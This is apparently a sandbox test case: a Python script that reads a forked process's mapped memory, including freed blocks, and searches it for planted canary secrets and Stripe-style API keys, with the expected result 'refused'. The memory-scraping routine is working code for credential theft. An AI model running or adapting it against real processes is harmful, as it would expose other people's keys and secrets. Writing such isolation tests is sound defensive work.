# attack: a fork copies its parent's memory: reads all that is mapped, freed blocks too, for what was loaded before
# expect: validator
# validator: refused
import ctypes
import os
import re
import sys

# A set of one letter: so this text itself is no hit. A placeholder is none, nor are its first 16 bytes alone.
SECRET = re.compile(rb"CANARY_7f[3]a[\w-]*|PLANTED_[K]EY=[\w-]+|sk_(?:test|live)_(?!placehol(?:der|\b))[A-Za-z0-9]{8,}")
PAGE, MOST = 4096, 192 * 1024 * 1024
libc = ctypes.CDLL(None, use_errno=True)
libc.write.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t)
reader, writer = os.pipe()


def mapped(address):
    """write() answers EFAULT for memory that is not there, where reading it would end the process."""
    if libc.write(writer, address, 1) != 1:
        return False
    os.read(reader, 1)
    return True


def areas():
    """From the kernel where it tells, else by trying the pages around objects old and new."""
    try:
        with open("/proc/self/maps") as file:
            for line in file:
                area, rights, *_ = line.split()
                if rights.startswith("rw"):
                    start, end = (int(part, 16) for part in area.split("-"))
                    yield start, end - start
    except OSError as error:
        print("no list of mappings:", error)
        malloced = ctypes.cast(ctypes.create_string_buffer(100), ctypes.c_void_p).value
        for place in {id(sys) >> 24, id(sys.modules) >> 24, id(object()) >> 24, id(areas) >> 24, malloced >> 24}:
            for address in range(place << 24, (place + 1) << 24, PAGE):
                if mapped(address):
                    yield address, PAGE


read, tail = 0, b""
for start, size in areas():
    for offset in range(0, size, 1 << 20):
        if read > MOST:
            break
        piece = ctypes.string_at(start + offset, min(1 << 20, size - offset))
        read += len(piece)
        for found in SECRET.finditer(tail + piece):
            print(f"ESCAPED: near {start + offset:#x}: {found[0][:60]!r}", flush=True)
        tail = piece[-64:]
print("searched", read, "bytes")
